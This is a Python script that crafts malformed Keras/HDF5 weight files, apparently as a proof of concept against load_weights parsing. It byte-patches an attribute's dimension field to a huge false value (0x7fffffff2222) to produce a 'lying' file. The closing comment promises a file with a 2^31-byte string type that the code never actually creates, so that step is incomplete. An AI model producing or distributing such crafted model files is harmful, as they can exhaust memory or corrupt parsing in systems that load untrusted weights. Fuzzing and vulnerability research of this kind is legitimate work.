import h5py, numpy as np, shutil, os
D='h/'; os.makedirs(D, exist_ok=True)
def base(n, fixed_names=False):
    f=h5py.File(D+n,'w')
    f.attrs['backend']='tensorflow'; f.attrs['keras_version']='3.15.1'
    g=f.create_group('model_weights')
    if fixed_names:
        g.attrs.create('layer_names', np.array([b'dense',b'dense_1']*0x1111, dtype='S7'))
    else:
        g.attrs['layer_names']=[b'dense',b'dense_1']
    for ln,shp in [('dense',[(4,3),(3,)]),('dense_1',[(3,1),(1,)])]:
        lg=g.create_group(ln); lg.attrs['weight_names']=[f'm/{ln}/kernel'.encode(), f'm/{ln}/bias'.encode()]
        lg.create_dataset(f'm/{ln}/kernel', data=np.zeros(shp[0],'f4'))
        lg.create_dataset(f'm/{ln}/bias', data=np.zeros(shp[1],'f4'))
    return f
# legacy weights h5 (load_weights) -- lying fixed-length attribute dims
f=base('fixattr.h5', True); f.close()
b=bytearray(open(D+'fixattr.h5','rb').read())
pat=(0x2222).to_bytes(8,'little')
i=b.find(pat); print('found dims at', i, b.count(pat))
b[i:i+8]=(0x7fffffff2222).to_bytes(8,'little')
open(D+'fixattr_lie.h5','wb').write(b)
# huge fixed-length string dtype attribute (declares 2^31 bytes per elem)
f=base('bigstrtype.h5'); f.close()
